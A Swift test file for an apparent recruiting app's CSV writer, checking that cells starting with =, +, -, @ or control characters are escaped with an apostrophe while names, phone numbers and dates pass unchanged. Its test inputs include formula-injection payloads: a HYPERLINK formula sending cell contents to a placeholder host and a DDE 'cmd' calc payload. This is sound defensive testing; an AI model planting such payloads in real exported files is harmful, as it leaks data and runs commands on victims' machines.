import Foundation
import TalentDomain
import Testing

@Suite("CSV written for Excel")
struct CSVWriterTests {
    @Test("cells a spreadsheet would run as formulas are made text with a leading apostrophe", arguments: [
        (#"=HYPERLINK("https://x.example/?d="&E2&F2,"Nguyễn Văn A")"#,
         #""'=HYPERLINK(""https://x.example/?d=""&E2&F2,""Nguyễn Văn A"")""#),
        ("=1+2", "'=1+2"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTrần", "'\tTrần"),
        ("\r=1", "\"'\r=1\""),
        ("+", "'+"),
        ("-", "'-"),
    ])
    func formulas(cell: String, written: String) {
        #expect(CSVWriter.line([cell]) == written + "\r\n")
    }

    @Test("ordinary values, phones and numbers are written as they are", arguments: [
        ("Nguyễn Thị Minh Thư", "Nguyễn Thị Minh Thư"),
        ("+84912345678", "+84912345678"),
        ("-3.5", "-3.5"),
        ("+84 912 345 678", "+84 912 345 678"),
        ("2001-05-14", "2001-05-14"),
        ("a=b", "a=b"),
        ("", ""),
        ("Trần, Văn \"Ba\"", "\"Trần, Văn \"\"Ba\"\"\""),
    ])
    func plain(cell: String, written: String) {
        #expect(CSVWriter.line([cell]) == written + "\r\n")
    }
}
